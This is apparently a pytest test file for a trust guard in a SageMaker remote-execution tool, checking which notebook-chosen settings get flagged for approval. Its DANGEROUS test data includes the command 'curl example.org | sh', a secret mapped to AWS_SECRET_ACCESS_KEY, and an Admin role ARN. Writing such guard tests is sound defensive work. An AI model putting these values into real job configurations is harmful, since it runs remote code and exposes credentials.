"""What a notebook may not choose unseen."""

from __future__ import annotations

import pytest

from sm_remote.settings.schema import NAMES
from sm_remote.settings.trust import list_guarded

DANGEROUS = {
    "target": "sagemaker",
    "instance_type": "ml.p4d.24xlarge",
    "instance_count": 2,
    "keep_alive_period_in_seconds": 600,
    "image_uri": "stranger/image",
    "dependencies": ("https://example.org/package.whl",),
    "pre_execution_commands": ("curl example.org | sh",),
    "pre_execution_script": "/tmp/script.sh",
    "include_local_workdir": True,
    "custom_file_filter": (),
    "job_conda_env": "base",
    "environment_variables": {"PIP_INDEX_URL": "https://example.org"},
    "inputs": {"train": "s3://somebody/data"},
    "not_secret": ("HF_TOKEN",),
    "secrets": {"HF_TOKEN": "env:AWS_SECRET_ACCESS_KEY"},
    "max_runtime_in_seconds": 86401,
    "retry_on": ("OutOfMemory",),
    "max_cost": 1000.0,
    "max_cost_per_day": 1000.0,
    "checkpoint_s3_uri": "s3://somebody/checkpoints",
    "role": "arn:aws:iam::111122223333:role/Admin",
    "s3_root_uri": "s3://somebody",
    "bucket_owner": "111122223333",
    "region": "eu-west-1",
    "engine": "process",
    "container_credentials": "profile:production",
    "instance_groups": ({"InstanceGroupName": "a", "InstanceType": "ml.p4d.24xlarge", "InstanceCount": 9},),
    "extra_request": {"RoleArn": "arn:aws:iam::111122223333:role/Admin"},
    "sagemaker_session": "a session",
    "subnets": ("subnet-1",),
    "security_group_ids": ("sg-1",),
    "s3_kms_key": "alias/theirs",
    "volume_kms_key": "alias/theirs",
    "training_plan_arn": "arn:aws:sagemaker:us-east-1:111122223333:training-plan/dear",
    "training_repository_access_mode": "Vpc",
    "training_repository_credentials_provider_arn": "arn:aws:lambda:us-east-1:111122223333:function:theirs",
    "enable_remote_debug": True,
    "enable_session_tag_chaining": True,
    "profiler_config": {"S3OutputPath": "s3://theirs"},
    "debugger_hook_config": {"S3OutputPath": "s3://theirs"},
    "tensorboard_output_config": {"S3OutputPath": "s3://theirs"},
}
HARMLESS = {
    "target": "local",
    "instance_type": "ml.m5.large",
    "instance_count": 1,
    "keep_alive_period_in_seconds": 0,
    "dependencies": "auto",
    "pre_execution_commands": (),
    "include_local_workdir": False,
    "custom_file_filter": None,
    "max_runtime_in_seconds": 3600,
    "volume_size": 50,
    "use_spot_instances": True,
    "training_repository_access_mode": "Platform",
    "extra_request": {},
    "subnets": (),
}


def test_every_setting_is_either_harmless_or_asked_about():
    harmless = [name for name in NAMES if name not in DANGEROUS]
    assert list_guarded(dict.fromkeys(harmless, "anything"), usual_instance_type=None) == {}
    assert set(DANGEROUS) <= set(NAMES)


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_dangerous_value_is_asked_about(name):
    assert list_guarded({name: DANGEROUS[name]}, usual_instance_type="ml.m5.large") == {name: DANGEROUS[name]}


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_value_is_not(name):
    assert list_guarded({name: HARMLESS[name]}, usual_instance_type="ml.m5.large") == {}


def test_what_nobody_has_thought_about_is_asked_about():
    assert list_guarded({"setting_of_tomorrow": 1}, usual_instance_type=None) == {"setting_of_tomorrow": 1}
